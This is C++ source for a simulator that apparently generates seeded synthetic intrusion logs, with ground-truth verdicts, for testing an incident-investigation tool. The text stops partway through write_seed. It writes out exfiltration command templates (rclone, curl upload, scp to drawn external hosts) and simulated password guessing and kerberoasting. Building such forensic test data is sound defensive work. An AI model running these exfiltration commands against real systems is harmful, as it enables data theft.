// The seeded family of incidents (family.h). A seed draws a company, then either nothing or an
// intrusion in waves; every event the intruder causes goes through `Intruder`, which writes it with
// the World's writers and records in the Truth what a careful analyst can read from it. The truth
// that depends on the logs as a whole (asset verdicts, egress, the claim) is computed at the end,
// from what was written. Nothing here knows how `tansa investigate` works.
#include "simulate/family.h"

#include <algorithm>
#include <array>
#include <cstdio>
#include <fstream>
#include <map>
#include <string>
#include <tuple>
#include <vector>

#include "simulate/world.h"

namespace tansa::simulate {

namespace {

using namespace detail;

constexpr int kFamilyDays = 120;
constexpr std::int64_t kTick = 4 * kHour;  // background cadence: well inside a 12h gap threshold
constexpr std::int64_t kGapThreshold = 12 * kHour;  // written into assets.yml
const std::string kBackupIp = "198.51.100.10", kUpdateIp = "198.51.100.20",
                  kSyncIp = "198.51.100.30";

// --- drawing -------------------------------------------------------------------------------------

int below(World& w, int n) {  // uniform in [0, n)
  return static_cast<int>(w.jitter(n - 1));
}
bool chance(World& w, int percent) {
  return below(w, 100) < percent;
}
template <class T>
const T& pick(World& w, const std::vector<T>& v) {
  return v[static_cast<std::size_t>(below(w, static_cast<int>(v.size())))];
}
std::string letters(World& w, int n, const char* alphabet = "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") {
  const int size = static_cast<int>(std::char_traits<char>::length(alphabet));
  std::string s;
  for (int i = 0; i < n; ++i) s += alphabet[below(w, size)];
  return s;
}

// --- the company ---------------------------------------------------------------------------------

struct Person {
  std::string name, ws, home_ip, tunnel_ip;
};

struct Company {
  std::int64_t start = 0;  // midnight of the first day
  std::string net;         // the internal /16, as "10.37"
  std::string dc, fs, lnx, dc_ip, fs_ip, lnx_ip, admin_ip;
  std::size_t dc_log = 0, fs_log = 0, lnx_log = 0, ws_log = 0;
  std::string share, site, folder;  // the sensitive share, SharePoint site and Linux folder
  std::vector<Person> people;
  enum class Addresses { none, all, windows_only } addresses = Addresses::none;  // in assets.yml
  bool has_linux = false, quiet_m365 = false, zeek_flows = true;
  std::string quiet_ws;  // a workstation whose Security log is read, silent nights and weekends
  std::string share_asset() const { return lower(share) + "-share"; }
  std::string site_asset() const { return lower(site) + "-sharepoint"; }
  std::string folder_asset() const { return folder + "-files"; }
  std::string url(const std::string& file) const {
    return "https://contoso.sharepoint.com/sites/" + site + "/Shared Documents/" + file;
  }
  std::string ip_of(const std::string& host) const {
    return host == dc ? dc_ip : host == fs ? fs_ip : host == lnx ? lnx_ip : "";
  }
  std::string fqdn(const std::string& host) const { return host + ".corp.example"; }
  bool workday(int day) const {
    const std::int64_t dow = (start / kDay + day + 4) % 7;  // 0 Sunday
    return dow != 0 && dow != 6;
  }
};

std::string internal_net(World& w) {
  switch (below(w, 3)) {
    case 0:
      return "10." + std::to_string(below(w, 256));
    case 1:
      return "172." + std::to_string(16 + below(w, 16));
    default:
      return "192.168";
  }
}

std::string server_name(World& w, const std::string& role) {
  switch (below(w, 3)) {
    case 0:
      return role + "-" + letters(w, 2);
    case 1:
      return "SRV-" + letters(w, 3, "0123456789");
    default:
      return role + letters(w, 1, "123456789");
  }
}

void draw_people(World& w, Company& c, unsigned scale) {
  static const std::vector<std::string> kNames = {"aoki",   "endo", "fujii", "hayashi", "inoue",
                                                  "kimura", "mori", "ogawa", "saito",   "ueda"};
  std::set<std::string> taken;
  const int n = (4 + below(w, 3)) * static_cast<int>(scale);
  for (int i = 0; i < n; ++i) {
    Person p;
    do {
      p.name = pick(w, kNames) + (i >= 10 ? std::to_string(i / 10 + 1) : "");
    } while (!taken.insert(p.name).second);
    p.ws = "ws-" + std::to_string(10 + i);
    p.home_ip = "192.0.2." + std::to_string(10 + i % 240);
    p.tunnel_ip = c.net + ".200." + std::to_string(10 + i % 240);
    c.people.push_back(p);
  }
}

Company draw_company(World& w, unsigned scale) {
  Company c;
  c.start = kStart + below(w, 200) * kDay;
  c.net = internal_net(w);
  c.dc = server_name(w, "DC");
  do c.fs = server_name(w, "FS");
  while (c.fs == c.dc);
  c.dc_ip = c.net + ".1." + std::to_string(10 + below(w, 40));
  c.fs_ip = c.net + ".1." + std::to_string(60 + below(w, 40));
  c.admin_ip = c.net + ".1.250";
  c.share = pick(w, std::vector<std::string>{"Design", "Finance", "Legal", "RnD", "Patents"});
  c.site = pick(w, std::vector<std::string>{"Rocket", "Board", "Mergers", "Payroll"});
  c.dc_log = w.add_windows(c.fqdn(c.dc), lower(c.dc) + "-security.evtx");
  c.fs_log = w.add_windows(c.fqdn(c.fs), lower(c.fs) + "-security.evtx");
  c.has_linux = chance(w, 50);
  if (c.has_linux) {
    c.lnx = pick(w, std::vector<std::string>{"build", "git", "db", "web"}) + "-" +
            letters(w, 2, "0123456789");
    c.lnx_ip = c.net + ".3." + std::to_string(10 + below(w, 50));
    c.folder = pick(w, std::vector<std::string>{"firmware", "models", "exports", "designs"});
    c.lnx_log = w.add_linux(c.lnx, c.lnx + "-auth.log");
  }
  c.addresses = static_cast<Company::Addresses>(below(w, 3));
  c.quiet_m365 = chance(w, 30);
  c.zeek_flows = chance(w, 60);
  draw_people(w, c, scale);
  if (chance(w, 40)) {
    c.quiet_ws = pick(w, c.people).ws;
    c.ws_log = w.add_windows(c.fqdn(c.quiet_ws), c.quiet_ws + "-security.evtx");
  }
  return c;
}

std::string assets_yml(const Company& c) {
  std::string o = "# A company of the seeded family (tansa simulate --seed).\n";
  o += "internal_networks: [" + c.net + ".0.0/16]\n";
  o += "domain_controllers: [" + c.dc + "]\n";
  o += "vpn_pool: [" + c.net + ".200.0/24]\n";
  o += "allowed_destinations: [" + kBackupIp + ", " + kUpdateIp + ", " + kSyncIp + "]\n";
  if (c.addresses != Company::Addresses::none) {
    o += "addresses: {" + c.dc + ": " + c.dc_ip + ", " + c.fs + ": " + c.fs_ip;
    if (c.has_linux && c.addresses == Company::Addresses::all) o += ", " + c.lnx + ": " + c.lnx_ip;
    o += "}\n";
  }
  o += "gap_threshold: 12h\nsensitive:\n";
  o += "  - name: " + c.share_asset() + "\n    label: secret\n    shares: ['\\\\" + c.fs + "\\" +
       c.share + "']\n    hosts: [" + c.fs + "]\n";
  o += "  - name: hr-records\n    label: personal data\n    shares: ['\\\\" + c.fs +
       "\\HR']\n    hosts: [" + c.fs + "]\n";
  o += "  - name: " + c.site_asset() +
       "\n    label: confidential\n    urls: ['https://contoso.sharepoint.com/sites/" + c.site +
       "*']\n";
  if (c.has_linux)
    o += "  - name: " + c.folder_asset() + "\n    label: export-controlled\n    paths: ['/srv/" +
         c.folder + "/**']\n    hosts: [" + c.lnx + "]\n";
  return o;
}

// --- normal work -----------------------------------------------------------------------------

// Machines: computer-account logons both ways, the firewall's statistics, internal flows, the
// nightly backup and updates (to allowed destinations), the cloud sync account, Linux cron.
void background(World& w, const Company& c) {
  for (std::int64_t k = 0; k < kFamilyDays * kDay / kTick; ++k) {
    const std::int64_t t = c.start + k * kTick;
    w.logon(c.dc_log, t, c.fs + "$", 3, c.fs_ip, c.fs, "Kerberos");
    w.logon(c.fs_log, t + kMin, c.dc + "$", 3, c.dc_ip, c.dc, "Kerberos");
    w.fortigate(t,
                "logid=\"0100040704\" type=\"event\" subtype=\"system\" level=\"information\" "
                "action=\"perf-stats\" msg=\"Performance statistics\" cpu=" +
                    std::to_string(3 + w.jitter(20)));
    w.flow(t + 2 * kMin, c.dc_ip, c.fs_ip, 445, 4000 + static_cast<std::uint64_t>(w.jitter(9000)),
           20000, 0.4);
    if (!c.quiet_m365)
      w.m365(t + 3 * kMin, "FileAccessed", "svc-sync@contoso.com", kSyncIp, "SharePoint",
             "https://contoso.sharepoint.com/sites/General/Shared Documents/sync.dat");
    if (!c.zeek_flows)  // the firewall logs the DC's update checks
      w.fortigate_flow(t + 5 * kMin, c.dc_ip, kUpdateIp, 443, 3000, 9000);
    if (c.has_linux)
      w.auth(c.lnx_log, t + 4 * kMin, "CRON",
             "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)");
    if (k % 6 == 0) {  // 02:00 every night
      const auto backup = 3000000000ULL + static_cast<std::uint64_t>(w.jitter(2000000000LL));
      if (c.zeek_flows) {
        w.flow(t + 2 * kHour + 7 * kMin, c.fs_ip, kBackupIp, 443, backup, 900000, 3400.0);
        w.flow(t + 2 * kHour + 9 * kMin, c.dc_ip, kUpdateIp, 443, 200000, 60000000, 120.0);
      } else {
        w.fortigate_flow(t + 2 * kHour + 7 * kMin, c.fs_ip, kBackupIp, 443, backup, 900000);
        w.fortigate_flow(t + 2 * kHour + 9 * kMin, c.dc_ip, kUpdateIp, 443, 200000, 60000000);
      }
      if (c.has_linux)
        w.auth(c.lnx_log, t + kHour, "sshd",
               "Accepted publickey for ops from " + c.admin_ip +
                   " port 50022 ssh2: ED25519 SHA256:ops+admin+key");
    }
  }
}

void workday(World& w, const Company& c, const Person& p, std::int64_t day) {
  // Whole seconds: FortiGate, Microsoft 365 and auth.log times have no fraction.
  const std::int64_t in = day + 7 * kHour + w.jitter(3600) * kSec;
  const std::int64_t out = in + 8 * kHour + w.jitter(3600) * kSec;
  w.vpn_up(in, p.name, p.home_ip, "Japan", p.tunnel_ip);
  w.logon(c.dc_log, in + 20 * kSec, p.name, 3, p.tunnel_ip, p.ws, "Kerberos");
  const std::uint64_t s =
      w.logon(c.fs_log, in + 40 * kSec, p.name, 3, p.tunnel_ip, p.ws, "Kerberos");
  for (int r = 0, n = 2 + below(w, 3); r < n; ++r)
    w.share_read(c.fs_log, in + kMin + w.jitter(7 * 3600) * kSec, p.name, s, p.tunnel_ip,
                 "Projects", "docs\\memo_" + std::to_string(w.jitter(200)) + ".docx");
  if (p.ws == c.quiet_ws) w.logon(c.ws_log, in - 5 * kMin, p.name, 2, "-", p.ws, "Negotiate");
  w.m365(in + 2 * kMin, "UserLoggedIn", p.name + "@contoso.com", p.home_ip, "AzureActiveDirectory",
         "");
  w.m365(in + 3 * kHour, "FileAccessed", p.name + "@contoso.com", p.home_ip, "SharePoint",
         "https://contoso.sharepoint.com/sites/General/Shared Documents/notice.pdf");
  if (p.ws == c.quiet_ws) w.logon(c.ws_log, out - 5 * kMin, p.name, 7, "-", p.ws, "Negotiate");
  w.vpn_down(out, p.name, p.home_ip, "Japan", p.tunnel_ip,
             20000000 + static_cast<std::uint64_t>(w.jitter(200000000)),
             5000000 + static_cast<std::uint64_t>(w.jitter(50000000)));
}

void workdays(World& w, const Company& c) {
  for (int d = 0; d < kFamilyDays; ++d) {
    if (!c.workday(d)) continue;
    for (const Person& p : c.people)
      if (w.jitter(9) != 0) workday(w, c, p, c.start + d * kDay);  // else: leave, illness
  }
}

// --- the intruder --------------------------------------------------------------------------------

// Every event the intruder causes is written here, and what it shows goes into the truth:
//  - first_malicious / last_malicious: earliest and latest such event, failed attempts included;
//  - sources: external addresses it connected from (VPN, SSH, cloud), with the FortiGate's
//    srccountry when the FortiGate saw them; accounts: every account it tried or used (cloud
//    accounts by their UPN); hosts: the VPN appliance and every host it logged on to;
//  - lateral_movement: one edge per successful logon (from the workstation name the logon
//    carries, else the host the address belongs to, else the address), with its first time;
//  - held: the addresses it held and since when (hosts it logged on to; VPN tunnel addresses
//    while its session lasted), and the destinations it named in command lines, for egress
//    (judge_egress);
//  - accessed assets: a 5145 on the asset's share, a cloud operation on its URL, a sudo command
//    naming its folder;
//  - waves: the intervals it was active in, for the asset verdicts.
struct Intruder {
  Intruder(World& world, const Company& company) : w(world), c(company), tr(world.truth) {}
  World& w;
  const Company& c;
  Truth& tr;
  std::string ws;                            // the first wave's workstation name
  std::vector<std::string> ips;              // addresses it came from, in order
  std::vector<std::string> named;            // destinations it named in a command line
  std::map<std::string, std::int64_t> held;  // host address -> first logon there
  std::vector<std::tuple<std::string, std::int64_t, std::int64_t>> tunnels_held;  // ip, up, down
  std::vector<std::pair<std::int64_t, std::int64_t>> waves;
  std::set<std::string> accessed;
  std::string svc;          // the service account it cracked, once it has
  std::string lnx_account;  // the Linux account it holds, once it has
  int tunnels = 0;

  void act(std::int64_t t) {
    tr.mark(t);
    waves.back().first = std::min(waves.back().first, t);
    waves.back().second = std::max(waves.back().second, t);
  }
  void source(const std::string& ip, const std::string& country) {
    tr.sources.insert(ip);
    if (!country.empty()) tr.countries[ip] = country;
  }
  std::string country(const std::string& ip) const {
    static const std::array<const char*, 4> kCountries = {"Netherlands", "Romania", "United States",
                                                          "Singapore"};
    return kCountries[static_cast<std::size_t>(ip.back()) % kCountries.size()];
  }

  // A VPN session as `user` from `ip`, `guesses` failed logins first. Returns the tunnel address;
  // the tunnel goes down at `up + length`.
  std::string vpn(std::int64_t up, const std::string& user, const std::string& ip, int guesses,
                  std::int64_t length) {
    for (int i = guesses; i > 0; --i) {
      w.vpn_fail(up - i * kMin, user, ip, country(ip));
      act(up - i * kMin);
    }
    const std::string tunnel = c.net + ".200." + std::to_string(150 + tunnels++);
    const auto sent = 1000000 + static_cast<std::uint64_t>(w.jitter(90000000));
    w.vpn_up(up, user, ip, country(ip), tunnel);
    w.vpn_down(up + length, user, ip, country(ip), tunnel, sent, 900000);
    act(up);
    act(up + length);
    source(ip, country(ip));
    tr.accounts.insert(lower(user));
    tr.hosts.insert("FW1");
    tr.egress[ip] += sent;  // the tunnel-down's sentbyte, as the scenarios count it
    tunnels_held.emplace_back(tunnel, up, up + length);
    return tunnel;
  }
  std::uint64_t logon(std::size_t log, const std::string& host, std::int64_t t,
                      const std::string& user, int type, const std::string& ip,
                      const std::string& from_ws, const std::string& package) {
    const std::uint64_t id = w.logon(log, t, user, type, ip, from_ws, package);
    act(t);
    tr.accounts.insert(lower(user));
    tr.hosts.insert(host);
    tr.edge(from_ws, host, lower(user), std::to_string(type), t);
    hold(c.ip_of(host), t);
    return id;
  }
  void hold(const std::string& address, std::int64_t t) {
    auto [it, fresh] = held.try_emplace(address, t);
    if (!fresh) it->second = std::min(it->second, t);
  }
  void kerberoast(std::int64_t t, const std::string& user, const std::string& tunnel,
                  std::uint64_t session) {
    w.process(c.dc_log, t, user, session, "C:\\Windows\\System32\\nltest.exe",
              "nltest /dclist:corp.example");
    act(t);
    for (int i = 0; i < 12; ++i) {
      w.kerberos_ticket(c.dc_log, t + kMin + i * 5 * kSec, user, tunnel,
                        "MSSQLSvc/db" + std::to_string(i), 0x17);
      act(t + kMin + i * 5 * kSec);
    }
    svc = "svc-" + pick(w, std::vector<std::string>{"sql", "backup", "report", "scan"});
    tr.weaknesses.insert(WeaknessKind::Rc4ServiceTickets);
  }
  // From the DC to the file server as `user`; reads `share` (empty: reads nothing).
  std::uint64_t file_server(std::int64_t t, const std::string& user, const std::string& share) {
    const std::uint64_t s = logon(c.fs_log, c.fs, t, user, 3, c.dc_ip, c.dc, "Kerberos");
    if (share.empty()) return s;
    const std::string asset = share == "HR" ? "hr-records" : c.share_asset();
    for (int f = 0, n = 25 + below(w, 15); f < n; ++f) {
      w.share_read(c.fs_log, t + 3 * kMin + f * 15 * kSec, user, s, c.dc_ip, share,
                   "2023\\pack_" + std::to_string(f) + ".zip", asset);
      act(t + 3 * kMin + f * 15 * kSec);
    }
    accessed.insert(asset);
    return s;
  }
  // A transfer out of `host_ip` to `dest`, seen by Zeek or by the FortiGate.
  void send(std::int64_t t, const std::string& host_ip, const std::string& dest) {
    const auto bytes = 1000000000ULL + static_cast<std::uint64_t>(w.jitter(7000000000LL));
    if (c.zeek_flows)
      w.flow(t, host_ip, dest, 443, bytes, 2000000, 1500.0);
    else
      w.fortigate_flow(t, host_ip, dest, 443, bytes, 2000000);
    act(t);
  }
  void cloud(std::int64_t t, const std::string& upn, const std::string& ip, bool files) {
    w.m365(t, "UserLoggedIn", upn, ip, "AzureActiveDirectory", "");
    act(t);
    source(ip, tr.countries.contains(ip) ? tr.countries[ip] : "");
    tr.accounts.insert(upn);
    for (int i = 0, n = 8 + below(w, 10); i < n; ++i) {
      const std::int64_t at = t + 2 * kMin + i * 30 * kSec;
      if (files)
        w.m365(at, i % 3 ? "FileDownloaded" : "FileAccessed", upn, ip, "SharePoint",
               c.url("plan_" + std::to_string(i) + ".docx"), c.site_asset());
      else
        w.m365(at, "MailItemsAccessed", upn, ip, "Exchange", "", "");
      act(at);
    }
    if (files) accessed.insert(c.site_asset());
  }
  void ssh(std::int64_t t, const std::string& user, const std::string& from_ip,
           const std::string& from_name) {
    w.auth(c.lnx_log, t, "sshd",
           "Accepted password for " + user + " from " + from_ip + " port " +
               std::to_string(50000 + below(w, 9000)) + " ssh2");
    act(t);
    tr.accounts.insert(user);
    tr.hosts.insert(c.lnx);
    tr.edge(from_name, c.lnx, user, "ssh", t);
    hold(c.lnx_ip, t);
    lnx_account = user;
    // deploy, svc-build, backup: a service account with a password, logged on to by SSH.
    tr.weaknesses.insert(WeaknessKind::ServiceAccountAccess);
  }
  void sudo(std::int64_t t, const std::string& command) {
    w.auth(c.lnx_log, t, "sudo",
           "  " + lnx_account + " : TTY=pts/1 ; PWD=/home/" + lnx_account +
               " ; USER=root ; COMMAND=" + command);
    act(t);
  }
};

// What a wave does once inside, drawn per seed. The file server is reached, exfiltration
// included, in one wave; the Linux host in one; the cloud in one.
struct Plan {
  int waves = 1;
  int fs_wave = -1, lnx_wave = -1, cloud_wave = -1;
  bool fs_as_svc = false;  // reach the file server with the cracked service account
  std::string fs_share;    // what it reads there ("" nothing)
  bool fs_exfil = false, dest_named = false, lnx_command = false, lnx_exfil = false;
  bool cloud_files = false;
  std::vector<int> ties;  // per later wave: 0 workstation, 1 address, 2 held Linux host
};

Plan draw_plan(World& w, const Company& c) {
  Plan p;
  p.waves = 1 + below(w, 3);
  p.fs_wave = chance(w, 75) ? below(w, p.waves) : -1;
  p.fs_as_svc = chance(w, 50);
  p.fs_share = pick(w, std::vector<std::string>{c.share, c.share, "HR", ""});
  p.fs_exfil = chance(w, 60);
  p.dest_named = chance(w, 65);
  if (c.has_linux && chance(w, 75)) p.lnx_wave = below(w, p.waves);
  p.lnx_command = chance(w, 60);
  p.lnx_exfil = chance(w, 50);
  p.cloud_wave = chance(w, 50) ? below(w, p.waves) : -1;
  p.cloud_files = chance(w, 60);
  // A wave tied by the Linux host needs a company with one, held from the first wave on.
  for (int k = 1; k < p.waves; ++k) p.ties.push_back(below(w, c.has_linux ? 3 : 2));
  if (std::find(p.ties.begin(), p.ties.end(), 2) != p.ties.end()) p.lnx_wave = 0;
  return p;
}

std::string new_address(World& w, const Intruder& x) {
  std::string ip;
  do {
    if (!x.ips.empty() && chance(w, 50)) {  // a neighbour in the same /24
      const std::string& a = x.ips.front();
      ip = a.substr(0, a.rfind('.') + 1) + std::to_string(40 + below(w, 200));
    } else if (chance(w, 50)) {
      ip = "203.0.113." + std::to_string(40 + below(w, 200));
    } else {
      ip = "198.51.100." + std::to_string(100 + below(w, 150));
    }
  } while (std::find(x.ips.begin(), x.ips.end(), ip) != x.ips.end() ||
           std::find(x.named.begin(), x.named.end(), ip) != x.named.end());
  return ip;
}

// A destination for stolen data: a new address it names (kept apart from its sources), or the
// address it came from.
std::string destination(Intruder& x, bool named, const std::string& ip) {
  if (!named) return ip;
  x.named.push_back(new_address(x.w, x));
  return x.named.back();
}

std::string exfil_command(World& w, const std::string& what, const std::string& dest) {
  switch (below(w, 3)) {
    case 0:
      return "rclone.exe copy " + what + " :sftp,host=" + dest + ",user=u:/in";
    case 1:
      return "curl.exe -T " + what + " https://" + dest + "/upload";
    default:
      return "scp.exe " + what + " u@" + dest + ":/in";
  }
}

// A sudo command that copies the Linux asset's folder (or a file in it) to /tmp/.cache.
std::string copy_command(World& w, const std::string& dir) {
  switch (below(w, 3)) {
    case 0:
      return "/bin/tar czf /tmp/.cache.tgz " + dir;
    case 1:
      return "/usr/bin/rsync -a " + dir + "/ /tmp/.cache/";
    default:
      return "/usr/bin/scp -r " + dir + "/2023 /tmp/.cache";
  }
}

// The Windows part of a wave that came in through the VPN and the DC.
void windows_actions(Intruder& x, const Plan& p, int k, std::int64_t t, const std::string& user,
                     const std::string& ip) {
  World& w = x.w;
  const Company& c = x.c;
  if (k == p.fs_wave) {
    const std::string account = p.fs_as_svc && !x.svc.empty() ? x.svc : user;
    const std::uint64_t s = x.file_server(t, account, p.fs_share);
    if (p.fs_exfil) {
      const std::string dest = destination(x, p.dest_named, ip);
      // What it sends: the share it read, or (having read nothing) a file of its own that names
      // no asset.
      const std::string what = p.fs_share.empty() ? "C:\\ProgramData\\upd.7z" : "D:\\" + p.fs_share;
      const std::string cmd = exfil_command(w, what, dest);
      w.process(c.fs_log, t + 15 * kMin, account, s,
                "C:\\ProgramData\\" + cmd.substr(0, cmd.find(' ')), cmd);
      x.act(t + 15 * kMin);
      x.send(t + 18 * kMin, c.fs_ip, dest);
    }
  }
  if (k == p.lnx_wave && x.lnx_account.empty()) {
    const std::int64_t at = t + 25 * kMin;
    x.ssh(at, pick(w, std::vector<std::string>{"deploy", "svc-build", "backup"}), c.dc_ip, c.dc);
    const std::string dir = "/srv/" + c.folder;
    x.sudo(at + 3 * kMin, p.lnx_command ? copy_command(w, dir) : std::string("/usr/bin/id"));
    if (p.lnx_command) x.accessed.insert(c.folder_asset());
    if (p.lnx_exfil) {
      const std::string dest = destination(x, p.dest_named, ip);
      x.sudo(at + 6 * kMin, "/usr/bin/scp /tmp/.cache.tgz u@" + dest + ":/in");
      x.send(at + 7 * kMin, c.lnx_ip, dest);
    }
  }
}

// A person whose account the intruder has not used yet (if any is left).
const Person& fresh_victim(Intruder& x) {
  std::vector<Person> fresh;
  for (const Person& p : x.c.people)
    if (!x.tr.accounts.contains(lower(p.name))) fresh.push_back(p);
  const Person& p = pick(x.w, fresh.empty() ? x.c.people : fresh);
  for (const Person& q : x.c.people)
    if (q.name == p.name) return q;
  return x.c.people.front();
}

// One wave. The first guesses a person's VPN password; later ones come back with another stolen
// account and/or address, tied to what came before by the workstation name (tie 0), the address
// (tie 1) or an SSH logon to the Linux host already held (tie 2).
void wave(Intruder& x, const Plan& p, int k, std::int64_t t) {
  World& w = x.w;
  const Company& c = x.c;
  x.waves.push_back({INT64_MAX, INT64_MIN});
  const int tie = k == 0 ? -1 : p.ties[static_cast<std::size_t>(k - 1)];
  if (tie == 2 && !x.lnx_account.empty()) {
    const std::string ip = new_address(w, x);
    x.ips.push_back(ip);
    x.source(ip, "");
    x.ssh(t, x.lnx_account, ip, ip);
    x.tr.initial_access.push_back(
        {t, EntryVector::SshValidAccount, c.lnx, lower(x.lnx_account), ip, ""});
    x.sudo(t + 4 * kMin, "/usr/bin/id");  // names no asset
    return;
  }
  const Person& victim = fresh_victim(x);
  std::string ip = x.ips.empty() || tie != 1 ? new_address(w, x) : pick(w, x.ips);
  if (std::find(x.ips.begin(), x.ips.end(), ip) == x.ips.end()) x.ips.push_back(ip);
  const std::string ws = tie == 1 ? "DESKTOP-" + letters(w, 7) : x.ws;
  const std::int64_t length = 90 * kMin;
  const std::string tunnel = x.vpn(t, victim.name, ip, k == 0 ? 4 + below(w, 4) : 0, length);
  // The wave's way in: guessing in the first (four to seven failures, nothing locking the
  // account), a stolen password without a failure in the later ones.
  x.tr.initial_access.push_back(
      {t, k == 0 ? EntryVector::VpnPasswordGuessing : EntryVector::VpnValidAccount, "FW1",
       lower(victim.name), ip, x.country(ip)});
  if (k == 0) x.tr.weaknesses.insert(WeaknessKind::GuessingNotStopped);
  const std::uint64_t s = x.logon(c.dc_log, c.dc, t + 3 * kMin, victim.name, 3, tunnel, ws, "NTLM");
  if (k == 0) x.kerberoast(t + 5 * kMin, victim.name, tunnel, s);
  windows_actions(x, p, k, t + 20 * kMin, victim.name, ip);
  if (k == p.cloud_wave) {
    const Person& owner = pick(w, c.people);
    x.cloud(t + 60 * kMin, owner.name + "@contoso.com", ip, p.cloud_files);
  }
}

void intrusion(World& w, const Company& c, Intruder& x) {
  const Plan p = draw_plan(w, c);
  x.ws = (chance(w, 50) ? "WIN-" + letters(w, 7) : "DESKTOP-" + letters(w, 7));
  std::int64_t day = 8 + below(w, 10);
  for (int k = 0; k < p.waves; ++k) {
    const std::int64_t t = c.start + day * kDay + (15 + below(w, 5)) * kHour + w.jitter(50) * kMin;
    wave(x, p, k, t);
    day += 14 + below(w, 15);
  }
  w.truth.access = true;
  w.truth.weaknesses.insert(WeaknessKind::UnseenDwell);
}

// --- the truth from the logs as written ----------------------------------------------------------

// Whether one run of `times`, no two consecutive more than the gap threshold apart, spans
// [from, to]. A run is where the log shows it was recording. A run that starts or ends within the
// gap threshold of an edge covers that edge, as an analyst reads a log that begins minutes after
// the others (issue: window edges).
bool spans(std::vector<std::int64_t> times, std::int64_t from, std::int64_t to, bool split) {
  if (times.empty()) return false;
  std::sort(times.begin(), times.end());
  std::int64_t run = times.front();
  for (std::size_t i = 0; i < times.size(); ++i) {
    if (split && i && times[i] - times[i - 1] > kGapThreshold) run = times[i];
    if (run <= from + kGapThreshold && times[i] >= to - kGapThreshold) return true;
  }
  return false;
}

// Asset verdicts. `accessed` when an event the intruder caused shows it (see Intruder). Otherwise
// `not_accessed` only when the log that would have shown an access covers every interval the
// intruder was active in (each wave; with no intrusion, the whole input):
//  - shares on the file server: its Security log, holding 5145 events (share auditing on), in one
//    run without a silence longer than the gap threshold;
//  - SharePoint URLs: the Microsoft 365 audit log, from its first to its last record. A cloud
//    service's audit log does not stop when nobody works: a quiet tenant silent every night and
//    weekend still covers those hours.
//  - folders on the Linux host: no log records file reads there (no file auditing), so never.
// Else `undetermined`.
//
// Returns whether those logs cover every asset (the claim of documents needs it): never with a
// Linux-held asset, whose reads no log records.
bool judge_assets(World& w, const Company& c, const Intruder& x,
                  std::vector<std::pair<std::int64_t, std::int64_t>> intervals) {
  Truth& tr = w.truth;
  if (intervals.empty()) {  // no intrusion: the whole input
    std::int64_t a = INT64_MAX, b = INT64_MIN;
    for (const auto& [k, v] : tr.coverage) a = std::min(a, v.first), b = std::max(b, v.second);
    intervals.push_back({a, b});
  }
  std::vector<std::int64_t> fs_times;
  bool audited = false;
  for (const WinEvent& e : w.windows_log(c.fs_log)) {
    fs_times.push_back(e.time);
    audited = audited || e.spec.event_id == 5145;
  }
  const std::vector<std::int64_t> m365 = w.m365_times();
  auto covered = [&](const std::vector<std::int64_t>& times, bool split) {
    return std::all_of(intervals.begin(), intervals.end(),
                       [&](const auto& i) { return spans(times, i.first, i.second, split); });
  };
  auto verdict = [&](const std::string& asset, bool log_covers) {
    tr.assets[asset] = x.accessed.contains(asset) ? AssetVerdict::Accessed
                       : log_covers               ? AssetVerdict::NotAccessed
                                                  : AssetVerdict::Undetermined;
  };
  const bool fs_covers = audited && covered(fs_times, true), m365_covers = covered(m365, false);
  // Sensitive files on a host whose log records no file access: the Linux host always (no log
  // here records file reads there), the file server when its log holds no 5145.
  if (c.has_linux || !audited) tr.weaknesses.insert(WeaknessKind::FileAuditingMissing);
  verdict(c.share_asset(), fs_covers);
  verdict("hr-records", fs_covers);
  verdict(c.site_asset(), m365_covers);
  if (c.has_linux) verdict(c.folder_asset(), false);
  return fs_covers && m365_covers && !c.has_linux;
}

// Egress: bytes sent, by the flow logs written, to external addresses (outside the company's /16)
// not in allowed_destinations, from an address the intruder held (a host from its first logon
// there, a VPN tunnel address while its session lasted) up to the end of the intrusion, plus every
// flow to a destination it named in a command line. The tunnel-down sentbyte of its VPN sessions
// was counted as they were written.
void judge_egress(World& w, const Company& c, const Intruder& x) {
  Truth& tr = w.truth;
  auto external = [&](const std::string& ip) {
    return !ip.starts_with(c.net + ".") && ip != kBackupIp && ip != kUpdateIp && ip != kSyncIp;
  };
  auto held = [&](const FlowRecord& f) {
    if (auto h = x.held.find(f.from); h != x.held.end() && f.time >= h->second) return true;
    return std::any_of(x.tunnels_held.begin(), x.tunnels_held.end(), [&](const auto& s) {
      return std::get<0>(s) == f.from && f.time >= std::get<1>(s) && f.time <= std::get<2>(s);
    });
  };
  for (const FlowRecord& f : w.flows()) {
    const bool named = std::find(x.named.begin(), x.named.end(), f.to) != x.named.end();
    if (external(f.to) && ((f.time <= tr.last && held(f)) || named)) tr.egress[f.to] += f.sent;
  }
}

// Some incidents come with the intruder's claim of what it took.
//  - A size: consistent when the egress observed is at least half of it, inconsistent when less
//    (the flow logs cover the whole input).
//  - Otherwise, sometimes, a number of documents (with or without an intrusion): consistent when
//    the documents seen read reach half of it; inconsistent when the file-level logs cover every
//    asset (`file_logs_cover`) and either there was no intrusion or the egress is below the
//    claimed documents at 10 kB each; undetermined otherwise.
void document_claim(World& w, bool file_logs_cover, std::uint64_t egress) {
  Truth& tr = w.truth;
  if (!chance(w, 35)) return;
  const std::uint64_t n =
      chance(w, 50) && tr.documents > 0 ? tr.documents : (chance(w, 50) ? 150000 : 2000);
  tr.claim = std::to_string(n) + " documents";
  tr.claim_verdict = tr.documents * 2 >= n ? ClaimVerdict::Consistent
                     : file_logs_cover && (!tr.access || egress / 10000 < n)
                         ? ClaimVerdict::Inconsistent
                         : ClaimVerdict::Undetermined;
}

void claim(World& w, bool file_logs_cover) {
  Truth& tr = w.truth;
  std::uint64_t total = 0;
  for (const auto& [ip, bytes] : tr.egress) total += bytes;
  if (!tr.access || total == 0 || !chance(w, 40)) return document_claim(w, file_logs_cover, total);
  const std::uint64_t gb =
      chance(w, 50) ? total * 3 / 2 / 1000000000ULL + 1 : total * 20 / 1000000000ULL + 1;
  tr.claim = std::to_string(gb) + "GB";
  tr.claim_verdict =
      total * 2 >= gb * 1000000000ULL ? ClaimVerdict::Consistent : ClaimVerdict::Inconsistent;
}

}  // namespace

std::string family_description() {
  return "a company and an incident drawn from N (names, addresses, "
         "waves, stolen accounts, Linux pivots, cloud access, exfiltration; or none at all)";
}

std::expected<void, std::string> write_seed(std::uint64_t seed, const std::string& dir,
                                            const Options& options) {
  World w(seed);
  const Company c = draw_company(w, std::max(1u, options.scale));
  background(w, c);
  workdays(w, c);
